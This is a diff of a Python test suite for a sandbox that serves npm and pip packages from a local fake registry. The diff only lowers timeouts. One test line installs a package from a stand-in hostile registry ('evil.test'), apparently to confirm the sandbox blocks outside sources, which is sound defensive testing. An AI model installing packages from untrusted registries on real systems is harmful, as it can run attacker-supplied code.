@@ -90,7 +90,7 @@ async def test_npm_and_pip_in_a_shell_session_ask_the_host_and_their_packages_ar
     registry.add("alpha", bin={"alpha-says": "say.js"}, files={"package/say.js": "#!/usr/bin/env node\nconsole.log(7)"})
     index.add(wheel("gamma", "3.0", scripts={"gamma-says": "gamma:main"}))
     async with opened() as sandbox, sandbox.session(language="shell") as session:
-        npm = await session.run("npm i --save-dev alpha; node -p 'require(\"alpha\").VERSION'; alpha-says", timeout=90)
+        npm = await session.run("npm i --save-dev alpha; node -p 'require(\"alpha\").VERSION'; alpha-says", timeout=60)
         pip = await session.run("pip install gamma; python3 -c 'import gamma; print(gamma.VERSION)'; gamma-says")
         real = await session.run("npm --version | grep -c '^[0-9]'; npm i --registry=http://evil.test alpha")
     assert npm.stdout == "added alpha@1.0.0\n1.0.0\n7\n", npm.text
@@ -107,8 +107,8 @@ async def test_npm_takes_what_package_json_lists_and_says_what_it_does_not_do(
                  files={"package/say.js": "#!/usr/bin/env node\nconsole.log(7)"})  # fmt: skip
     listed = '{"dependencies": {"alpha": "^1.0.0"}, "devDependencies": {"@acme/beta": "*"}}'
     async with opened() as sandbox, sandbox.session(language="shell", files={"package.json": listed}) as session:
-        without = await session.run("npm install --omit=dev", timeout=90)
-        everywhere = await session.run("npm i -g @acme/beta && beta-says", timeout=90)
+        without = await session.run("npm install --omit=dev", timeout=60)
+        everywhere = await session.run("npm i -g @acme/beta && beta-says", timeout=60)
         locked = await session.run("npm ci")
         broken = await session.run("echo '{' > package.json; npm install")
         unknown = await session.run("rm package.json; npm install")
